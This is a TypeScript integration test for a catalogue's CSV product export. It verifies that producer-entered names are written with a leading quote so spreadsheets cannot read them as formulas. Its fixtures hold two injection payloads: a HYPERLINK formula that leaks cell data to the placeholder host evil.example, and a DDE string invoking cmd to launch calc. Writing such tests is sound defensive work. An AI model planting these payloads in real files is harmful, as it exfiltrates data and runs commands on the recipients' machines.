import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import { CatalogueHarness, startCatalogue } from '../../test/catalogue-harness';
import { gtin, producerInput, productInput } from '../../test/fixtures';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

/** Text a producer typed into its own records must reach an officer's spreadsheet as text, never as a formula. */
describe('product export: formula injection (integration)', () => {
  let catalogue: CatalogueHarness;

  beforeAll(async () => {
    catalogue = await startCatalogue('cat_export_formulas');
    const producerId = randomUUID();
    const producer = await catalogue.token({ roles: ['producer'], producerId });
    const registered = await catalogue.request('POST', '/producers', {
      token: producer,
      body: producerInput({ name: HYPERLINK, tradingName: '+84 275 3822 123' }),
    });
    expect(registered.status).toBe(201);
    // A producer account adds products once an officer has verified its producer (decision 0034).
    const verified = await catalogue.request('POST', `/producers/${producerId}/verify`, {
      token: await catalogue.token({ roles: ['admin'] }),
      body: {},
    });
    expect(verified.status).toBe(200);
    const created = await catalogue.request('POST', '/products', {
      token: producer,
      body: productInput(producerId, { nameVi: SUM, gtins: [gtin('8936047', 901)] }),
    });
    expect(created.status).toBe(201);
  });

  afterAll(async () => {
    await catalogue?.close();
  });

  it.each([
    ['comma', '', ','],
    ['semicolon', '&delimiter=semicolon', ';'],
  ])('writes the producer’s name and product name with a leading quote (%s)', async (_, query, delimiter) => {
    const officer = await catalogue.token({
      roles: ['officer'],
      scope: { provinceCode: '83', districtCode: '832' },
    });
    const res = await catalogue.request('GET', `/exports/products.csv?district=832${query}`, {
      token: officer,
    });
    expect(res.status).toBe(200);
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parse(res.text, { bom: true, delimiter }) as string[][];
    expect(rows).toHaveLength(1);
    const cell = (column: string) => rows[0][header.indexOf(column)];
    expect(cell('Chủ thể / Producer')).toBe(`'${HYPERLINK}`);
    expect(cell('Sản phẩm / Product')).toBe(`'${SUM}`);
    // Nothing else moved: the platform's own values are as they were.
    expect(cell('Mã huyện / District code')).toBe('832');
    expect(cell('GTIN')).toBe(`0${gtin('8936047', 901)}`);
    // No cell of the file, as a spreadsheet reads it, starts a formula.
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
